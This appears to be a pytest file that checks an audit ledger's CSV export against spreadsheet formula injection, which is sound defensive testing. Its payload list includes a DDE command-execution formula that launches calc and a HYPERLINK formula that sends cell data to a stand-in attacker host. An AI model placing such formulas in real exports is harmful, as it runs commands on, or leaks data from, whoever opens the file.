"""Formula injection: an export that somebody opens in a spreadsheet computes nothing and calls nobody."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.audit import chain
from bot.cli.main import main
from bot.domain.events import Event, Kind
from bot.domain.model import Actor, DeletionId, JobId
from bot.ledger.factory import open_ledger
from tests.contract.values import NOON
from tests.support.values import TARGET

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '"=1"',
    "a,=1",
    'a"\n=1',
]
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    """In every column that can hold text from outside; the row stays one row, and the hashes still come out."""
    ledger = open_ledger(f"sqlite:///{tmp_path}/ledger.db", TARGET)
    ledger.trail.record(
        Event(Kind.OUTCOME, NOON, Actor(text, text), text, DeletionId(text), JobId(text), text, {"code": text, text: 1})
    )
    ledger.close()
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path}/ledger.db")
    assert main(["audit", "export", "--format", "csv"]) == 0
    headings, row = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
    cells = dict(zip(headings, row, strict=True))
    assert len(cells) == 12
    for name, cell in cells.items():
        assert not cell.lstrip(" ").startswith(DANGEROUS), name
    assert chain.next_hash(cells["previous_hash"], cells["text"]) == cells["hash"]
